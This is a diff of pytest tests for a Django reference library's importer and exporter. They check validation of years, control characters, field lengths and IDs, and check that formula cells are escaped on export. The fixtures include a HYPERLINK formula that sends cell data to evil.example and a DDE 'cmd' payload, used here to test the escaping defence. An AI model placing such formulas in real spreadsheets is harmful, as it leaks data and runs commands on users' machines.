@@ -1,11 +1,14 @@
 """Reading RIS, BibTeX and the library's own CSV/XLSX export (as the admin downloads it), and
 importing all-or-nothing."""
 
+import csv
+import io
 from pathlib import Path
 
 from django.core.exceptions import ValidationError
 from django.urls import reverse
 
+import openpyxl
 import pytest
 
 from evidence.importers import (
@@ -224,3 +227,172 @@ def test_the_library_export_restores_every_field_into_an_empty_library(editor_cl
 def test_format_authors():
     assert format_authors(["Jane Q Public", "Doe, John"]) == "Public JQ, Doe J"
     assert format_authors([]) == ""
+
+
+# --- Every cell is checked, with the row and the column named (issue 11, items 12 and 16) ---
+
+
+def csv_file(*rows, headings=("Title", "Authors", "Year", "DOI", "PubMed ID")):
+    """A CSV file as the library's export writes it: the headings, then one study a row."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(headings)
+    writer.writerows(rows)
+    return out.getvalue().encode()
+
+
+def plan_csv(*rows, **kwargs):
+    return plan_import(read_references("studies.csv", csv_file(*rows, **kwargs)), DEFAULTS)
+
+
+def refusal(*rows, **kwargs):
+    with pytest.raises(ValidationError) as error:
+        plan_csv(*rows, **kwargs)
+    return error.value.messages
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("year", ["²", "٢٠١٨", "20189", "2018.5", "MMXVIII"])
+def test_a_year_that_is_not_four_ascii_digits_is_refused_naming_row_and_column(year):
+    [message] = refusal(
+        ["A study", "Doe J", "2018", "10.1000/a", ""], ["Another", "Roe R", year, "10.1000/b", ""]
+    )
+    assert message.startswith("row 3: Year:") and "four digits" in message
+
+
+@pytest.mark.django_db
+def test_a_bad_year_updating_an_existing_study_is_refused_too(make_study):
+    make_study(doi="10.1000/a", year=2018)
+    [message] = refusal(["A study", "Doe J", "²", "10.1000/a", ""])
+    assert message.startswith("row 2: Year:")
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("year, says", [("1850", "1900"), ("2999", "future")])
+def test_a_year_out_of_range_is_refused(year, says):
+    [message] = refusal(["A study", "Doe J", year, "10.1000/a", ""])
+    assert message.startswith("row 2: Year:") and says in message
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x85"])
+def test_a_control_character_is_refused_naming_row_and_column(character):
+    [message] = refusal([f"A{character}study", "Doe J", "2018", "10.1000/a", ""])
+    assert message == (
+        f"row 2: Title: holds the control character U+{ord(character):04X}, which cannot be stored; "
+        "remove it from the file."
+    )
+
+
+@pytest.mark.django_db
+def test_a_nul_in_a_matched_studys_cell_is_refused_before_any_lookup(make_study):
+    make_study(title="Untraced", doi="")
+    # With no DOI or PMID the title is the study's key: it must not reach the database.
+    [message] = refusal(["Untraced\x00", "", "", "", ""])
+    assert message.startswith("row 2: Title: holds the control character U+0000")
+
+
+@pytest.mark.django_db
+def test_a_summary_keeps_its_line_breaks_and_tabs():
+    plan = plan_csv(["A study", "Line one\n\tLine two"], headings=("Title", "Summary"))
+    assert plan.to_create[0].summary == "Line one\n\tLine two"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "column, value, limit",
+    [("Title", "x" * 501, 500), ("Authors", "Doe J, " * 80 + "Roe R", 500), ("Journal", "J" * 256, 255)],
+)
+def test_a_cell_longer_than_its_field_is_refused_never_cut(column, value, limit):
+    [message] = (
+        refusal(["A study", value], headings=("Title", column)) if column != "Title" else refusal([value])
+    )
+    assert message == (
+        f"row 2: {column}: {len(value)} characters, more than the {limit} it may have; shorten it in the file."
+    )
+    assert not Study.objects.exists()
+
+
+@pytest.mark.django_db
+def test_a_ris_year_is_not_cut_to_four_digits():
+    ris = "TY  - JOUR\nTI  - A study\nPY  - 20189\nER  - \n\nTY  - JOUR\nTI  - Dated\nPY  - 2018/05/01/\nER  - \n"
+    with pytest.raises(ValidationError) as error:
+        plan_import(read_references("refs.ris", ris.encode()), DEFAULTS)
+    assert error.value.messages == ["record 1: Year: '20189' is not a year; write four digits, e.g. 2018."]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("pmid", ["١٢٣٤٥", "12 345", "PMID123"])
+def test_a_pmid_is_ascii_digits(pmid):
+    [message] = refusal(["A study", "Doe J", "2018", "", pmid])
+    assert message.startswith("row 2: PubMed ID: A PubMed ID is digits only")
+
+
+@pytest.mark.django_db
+def test_a_doi_of_one_study_and_a_pmid_of_another_is_refused(make_study):
+    first = make_study(doi="10.1000/a", pmid="")
+    second = make_study(doi="10.1000/b", pmid="123456")
+    [message] = refusal(["A study", "Doe J", "2018", "10.1000/a", "123456"])
+    assert (
+        message.startswith("row 2: its DOI is that of") and str(first) in message and str(second) in message
+    )
+
+
+@pytest.mark.django_db
+def test_two_rows_for_one_study_by_doi_and_by_pmid_are_refused(make_study):
+    make_study(doi="10.1000/a", pmid="123456")
+    [message] = refusal(["A study", "", "2018", "10.1000/a", ""], ["A study", "", "2019", "", "123456"])
+    assert message == "row 3: the same study as row 2."
+
+
+@pytest.mark.django_db
+def test_every_bad_row_is_named_at_once():
+    messages = refusal(
+        ["Fine", "", "2018", "10.1000/a", ""],
+        ["Bad year", "", "²", "10.1000/b", ""],
+        ["Bad\x00title", "", "2018", "10.1000/c", ""],
+        ["Bad DOI", "", "2018", "doi:10.1000/d", ""],
+    )
+    assert [message.split(":")[0] for message in messages] == ["row 3", "row 4", "row 5"]
+
+
+# --- The export never hands a spreadsheet a formula (issue 11, item 14) ---
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open the study")'
+
+
+@pytest.fixture
+def hostile_study(make_study):
+    return make_study(title=HYPERLINK, authors="-Doe J", journal="@Journal", summary="=cmd|' /C calc'!A0")
+
+
+def test_the_library_csv_escapes_formula_cells(editor_client, hostile_study):
+    _, data = library_export(editor_client, "csv")
+
+    [heading, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    cells = dict(zip(heading, row, strict=True))
+    assert cells["Title"] == f"'{HYPERLINK}"
+    assert cells["Authors"] == "'-Doe J"
+    assert cells["Journal"] == "'@Journal"
+    assert cells["Summary"] == "'=cmd|' /C calc'!A0"
+
+
+def test_the_library_xlsx_keeps_formula_cells_as_quoted_text(editor_client, hostile_study):
+    _, data = library_export(editor_client, "xlsx")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    [title] = [cell for cell in sheet[2] if cell.value == HYPERLINK]
+    assert title.data_type == "s" and title.quotePrefix
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_escaped_cells_import_back_as_they_were(editor_client, hostile_study, export_format):
+    before = library_contents()
+    filename, data = library_export(editor_client, export_format)
+
+    plan = plan_import(read_references(filename, data), DEFAULTS)
+
+    assert plan.is_empty and [study.title for study in plan.unchanged] == [HYPERLINK]
+    Study.objects.all().delete()
+    apply_plan(plan_import(read_references(filename, data), DEFAULTS))
+    assert library_contents() == before
